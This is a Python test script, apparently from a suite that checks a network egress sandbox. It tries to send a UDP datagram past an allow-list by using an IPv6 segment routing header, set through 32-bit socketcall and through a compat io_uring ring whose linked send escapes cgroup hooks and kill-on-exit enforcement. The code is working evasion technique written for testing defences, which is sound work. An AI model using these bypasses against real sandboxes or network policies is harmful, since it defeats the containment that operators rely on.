# an IPv6 segment routing header set on a socket (IPV6_RTHDR: no privilege needed) sends each packet
# to its first segment while connect/sendmsg are shown the final address: a datagram to an allowed
# destination carries its payload to any address named as a segment. Here the segment is ::1 and
# the final address 2001:db8::1, which the policy allows; "through" = the datagram was sent.
# IA32=1: the header set by a 32-bit socketcall(SYS_SETSOCKOPT) (int 0x80), which the kernel's
# cgroup setsockopt programs never see (they run for native calls only); done in a child, since
# where BPF LSM is missing the fallback kills the task at that call's exit.
# URING32=1: the header set through io_uring's socket command (IORING_OP_URING_CMD,
# SOCKET_URING_OP_SETSOCKOPT, 6.7+) on a ring a 32-bit io_uring_setup made: the kernel runs that
# ring's setsockopt as a compat call, past the cgroup setsockopt programs, and no syscall is made
# for it at all (submitted by this 64-bit process's io_uring_enter). In a child, as above.
# LINKED=1 (with URING32=1): the send is no later call but an SQE linked to the setsockopt command
# (IOSQE_IO_LINK) in the same submission, an IORING_OP_SEND with the allowed address (sendto's
# form: addr2, addr_len): the kernel issues it when the command completes, before the submitter is
# back in user space, where a kill sent at that completion would land. The child that submits may
# die; the ring is the parent's (shared with it), so the send's completion is read there: through
# = it sent the byte. (Not connect then send: a guest has no route to 2001:db8::1 of its own.)
import socket, struct
from _common import *
URING32 = os.environ.get("URING32") == "1"
LINKED = os.environ.get("LINKED") == "1"
IORING_OP_URING_CMD, SOCKET_URING_OP_SETSOCKOPT, IORING_OP_SEND, IOSQE_IO_LINK = 46, 3, 26, 4
port = int(os.environ["ALLOWED_UDP_PORT"])
segs = [socket.inet_pton(socket.AF_INET6, a) for a in ("2001:db8::1", "::1")]  # final first, first hop last
srh = struct.pack("!BBBBBBH", 0, 2 * len(segs), 4, len(segs) - 1, len(segs) - 1, 0, 0) + b"".join(segs)
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)


def set_in_child(set_route, what):
    """set_route() sets the header in a child (OSError: refused; a string: unsupported, and why),
    which then sends to the final address; reports what the child said, or how it died"""
    ia32_syscall(20)  # unsupported unless 32-bit syscalls work here

    def child():
        try:
            why = set_route()
            if why:
                return f"unsupported {why}"
            ok, detail = net_result(f"{what} accepted; sendto [2001:db8::1]:{port}", lambda: s.sendto(b"x", ("2001:db8::1", port)))
            return ("sent " if ok else "refused ") + detail
        except OSError as e:
            return f"refused {e.strerror or e}"
    said, how = in_child(child)
    if said.startswith("unsupported"):
        unsupported(said.split(" ", 1)[1])
    report(said.startswith("sent"), f"{said.split(' ', 1)[-1] if said else 'the child said nothing'}; child {how}")


def socketcall():
    val = low_buffer(srh)
    args = low_buffer(struct.pack("=IIIII", s.fileno(), socket.IPPROTO_IPV6, socket.IPV6_RTHDR, val, len(srh)))
    ia32_check(ia32_syscall(102, 14, args), "socketcall(SYS_SETSOCKOPT, IPV6_RTHDR)")


def uring_cmd():
    try:
        ring = Ring(ia32=True)
    except OSError as e:
        return f"{e.strerror}: no io_uring for this user here"
    res = ring.run(IORING_OP_URING_CMD, fd=s.fileno(), off=SOCKET_URING_OP_SETSOCKOPT, addr=socket.IPPROTO_IPV6 | socket.IPV6_RTHDR << 32, file_index=len(srh), addr3=low_buffer(srh))
    if -res in (errno.EINVAL, errno.EOPNOTSUPP):
        return f"IORING_OP_URING_CMD SOCKET_URING_OP_SETSOCKOPT: {errno.errorcode[-res]} (socket commands came in 6.7)"
    if res < 0:
        raise OSError(-res, f"IORING_OP_URING_CMD setsockopt(IPV6_RTHDR) on a 32-bit ring: {errno.errorcode.get(-res, res)}")


def uring_linked():
    ia32_syscall(20)  # unsupported unless 32-bit syscalls work here
    try:
        ring = Ring(ia32=True)
    except OSError as e:
        unsupported(f"{e.strerror}: no io_uring for this user here")
    to = struct.pack("=HHI16sI", socket.AF_INET6, socket.htons(port), 0, socket.inet_pton(socket.AF_INET6, "2001:db8::1"), 0)
    val, byte, dest = low_buffer(srh), low_buffer(b"x"), low_buffer(to)
    cmd = dict(opcode=IORING_OP_URING_CMD, fd=s.fileno(), off=SOCKET_URING_OP_SETSOCKOPT, addr=socket.IPPROTO_IPV6 | socket.IPV6_RTHDR << 32, file_index=len(srh), addr3=val, flags=IOSQE_IO_LINK, user_data=1)
    # addr2 (the off field) and addr_len (the low half of file_index): sendto's destination
    send = dict(opcode=IORING_OP_SEND, fd=s.fileno(), addr=byte, length=1, off=dest, file_index=len(to), user_data=2)
    got, how = ring.submit_in_child([cmd, send])
    if -got.get(1, 0) in (errno.EINVAL, errno.EOPNOTSUPP):
        unsupported(f"IORING_OP_URING_CMD SOCKET_URING_OP_SETSOCKOPT: {errno.errorcode[-got[1]]} (socket commands came in 6.7)")
    res = {k: (v if v >= 0 else errno.errorcode.get(-v, v)) for k, v in got.items()}
    sent = got.get(2, -1) > 0
    report(sent, f"setsockopt(IPV6_RTHDR via ::1) on a 32-bit ring linked to a send to [2001:db8::1]:{port}: setsockopt {res.get(1, 'no completion')}, send {res.get(2, 'no completion')}; child {how}")


if LINKED:
    uring_linked()  # reports: ends the attack
if IA32:
    set_in_child(socketcall, "socketcall(SYS_SETSOCKOPT, IPV6_RTHDR via ::1)")
if URING32:
    set_in_child(uring_cmd, "setsockopt(IPV6_RTHDR via ::1) through a 32-bit io_uring")
try:
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
except OSError as e:
    report(False, f"setsockopt(IPV6_RTHDR, segments 2001:db8::1 via ::1): {errno.errorcode.get(e.errno, e.errno)}")
report(*net_result(f"setsockopt(IPV6_RTHDR via ::1) accepted; sendto [2001:db8::1]:{port}", lambda: s.sendto(b"x", ("2001:db8::1", port))))
